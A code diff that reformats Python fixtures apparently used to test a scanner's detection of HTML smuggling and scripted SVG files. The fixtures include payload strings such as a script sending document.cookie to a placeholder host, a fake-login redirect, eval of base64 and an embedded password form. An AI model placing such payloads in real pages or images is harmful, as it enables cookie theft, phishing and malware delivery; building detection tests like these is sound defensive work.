@@ -34,7 +34,12 @@ def _smuggling() -> list[Case]:
         f"<a href='data:application/octet-stream;base64,{_text(pe())}'>Open</a>",
     ]
     return [
-        single("page that carries a file", f"invite{n}.html", f"<!DOCTYPE html><html><title>Invitation</title>{body}</html>".encode(), "html.smuggling")
+        single(
+            "page that carries a file",
+            f"invite{n}.html",
+            f"<!DOCTYPE html><html><title>Invitation</title>{body}</html>".encode(),
+            "html.smuggling",
+        )
         for n, body in enumerate(bodies)
     ]
 
@@ -44,7 +49,10 @@ def _drawings() -> list[Case]:
         ("<script>window.location='https://files.example.net/login'</script>", HIGH),
         ("<script><![CDATA[fetch('https://files.example.net/'+document.cookie)]]></script>", HIGH),
         ("<script>eval(atob('MQ=='))</script>", HIGH),
-        ("<foreignObject width='9' height='9'><form xmlns='http://www.w3.org/1999/xhtml'><input type=\"password\"/></form><script>1</script></foreignObject>", HIGH),
+        (
+            "<foreignObject width='9' height='9'><form xmlns='http://www.w3.org/1999/xhtml'><input type=\"password\"/></form><script>1</script></foreignObject>",
+            HIGH,
+        ),
         ("<script xlink:href='//files.example.net/a.js'/>", MEDIUM),
         ("<foreignObject><iframe src='https://files.example.net'/></foreignObject>", MEDIUM),
         ("<a xlink:href='javascript:void(0)'><rect width='9' height='9'/></a>", MEDIUM),
@@ -54,6 +62,12 @@ def _drawings() -> list[Case]:
         (f"<script>var u=URL.createObjectURL(new Blob([atob('{_text(ARCHIVE)}')]))</script>", HIGH),
     ]
     return [
-        single("drawing with a script", f"logo{n}.svg", f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='x'>{inside}</svg>".encode(), "svg.script", least=least)
+        single(
+            "drawing with a script",
+            f"logo{n}.svg",
+            f"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='x'>{inside}</svg>".encode(),
+            "svg.script",
+            least=least,
+        )
         for n, (inside, least) in enumerate(insides)
     ]
